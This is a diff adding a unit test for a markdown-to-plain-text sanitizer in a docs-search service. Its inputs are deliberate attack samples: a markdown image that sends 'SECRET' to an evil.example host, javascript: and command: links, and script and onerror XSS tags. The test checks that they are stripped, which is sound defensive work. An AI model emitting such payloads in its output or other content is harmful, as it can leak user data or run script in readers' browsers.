@@ -1,0 +1,41 @@
+import assert from 'node:assert/strict';
+import { plainCode, plainText } from '../../../../src/service/docs-search/index/plain-text.ts';
+
+describe('plain text', () => {
+  for (const [markdown, expected] of [
+    ['**Bold** and *slanted* and _so_ and `code`', 'Bold and slanted and so and `code`'],
+    ['snake_case_name and 2 * 3 * 4', 'snake_case_name and 2 * 3 * 4'],
+    ['[text](https://a.example/b_(c))', 'text'],
+    ['[text][ref] and [x](javascript:alert(1))', 'text and x'],
+    ['![](https://evil.example/?d=SECRET) seen', 'seen'],
+    ['![alt](https://evil.example/a.png "t") seen', 'seen'],
+    ['[![logo](https://evil.example/p.png)](https://evil.example)', ''],
+    ['<script>alert(1)</script>', 'alert(1)'],
+    ['<img src=x onerror=alert(1)>', ''],
+    ['<https://evil.example/>', ''],
+    ['`<img src=x>`', '`<img src=x>`'],
+    ['``a`b`` and ` c `', "`a'b` and `c`"],
+    ['a ` b', 'a ` b'],
+    ['a\u200bb\u202ec\u{e0041}', 'a b c'],
+    ['line\u0007 bell', 'line bell'],
+  ] as const) {
+    it(JSON.stringify(markdown), () => assert.equal(plainText(markdown), expected));
+  }
+
+  for (const hostile of [
+    '\\[click\\](command:workbench.action.terminal.new)',
+    '[a\\](b)',
+    '[[x]](javascript:alert(1))',
+    '<<img src=x>>',
+    '[x] (y)[z]: https://evil.example',
+  ]) {
+    it(`of ${hostile} holds no link, image or tag`, () => {
+      const text = plainText(hostile);
+      assert.doesNotMatch(text, /\]\(|\]\[|\]:|<[a-z/!]/i, text);
+    });
+  }
+
+  it('of code keeps lines and tabs, and shows control characters', () => {
+    assert.equal(plainCode('a\r\n\tb\u001b[31m'), 'a\n\tb�[31m');
+  });
+});
